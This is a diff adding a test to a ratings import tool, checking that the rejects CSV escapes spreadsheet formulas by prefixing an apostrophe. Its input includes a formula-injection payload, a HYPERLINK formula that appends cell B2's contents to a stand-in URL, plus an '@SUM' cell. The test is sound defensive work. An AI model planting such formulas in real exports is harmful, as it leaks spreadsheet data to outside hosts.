@@ -132,3 +132,15 @@ def test_import_keeps_tabs_newlines_and_backslashes_in_text_exactly(live_rated, 
     assert (result.inserted, result.rejected) == (2, 0)
     assert Rating.objects.get(external_id="ext\\1").comment == comment
     assert Rating.objects.get(external_id="ext-2").comment == "前后空格"
+
+
+def test_export_writes_user_text_as_text_in_the_rejects_csv(live_rated, tmp_path):
+    """Issue 13.2: the rejects report quotes the file; a cell that Excel would run as a formula is neutralised."""
+    cadre, _ = live_rated
+    formula = '=HYPERLINK("http://x?"&B2,"点我")'
+    rows = [[formula, "no-such-card", "4", "2026-11-06 09:00", "", "", "", "", ""],
+            ["@SUM(1)", cadre.card_code, "9", "2026-11-06 09:00", "", "", "", "", ""]]
+    result = import_file(str(write(tmp_path / "ratings.csv", rows)), progress=False)
+    rejects = {r[0]: r[1:] for r in rejects_of(result)[1:]}
+    assert rejects["2"] == ["'" + formula, "亮码编号不存在或已停用：no-such-card"]
+    assert rejects["3"][0] == "'@SUM(1)"
